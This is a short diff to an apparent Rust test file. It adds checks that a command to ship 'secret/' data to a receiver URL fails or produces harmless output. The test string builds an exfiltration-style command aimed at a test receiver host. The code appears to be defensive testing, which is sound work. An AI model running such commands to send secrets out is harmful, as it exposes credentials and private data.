@@ -30,6 +30,8 @@ fn the_answer_of_a_receiver() {
 fn the_answers_to_an_attack() {
     let junit = file("ugly.xml", "");
     let to = format!("attack wandb --only secret/ --to http://{}/ugly", receiver());
+    assert_harmless(&verify(&to).run().failed());
+    let to = format!("{to}/open");
     assert_harmless(&verify(&format!("{to} --junit")).arg(&junit).run().ended(1));
     assert_harmless(&verify(&format!("{to} --json")).run().ended(1));
     assert_harmless(&std::fs::read_to_string(junit).unwrap());
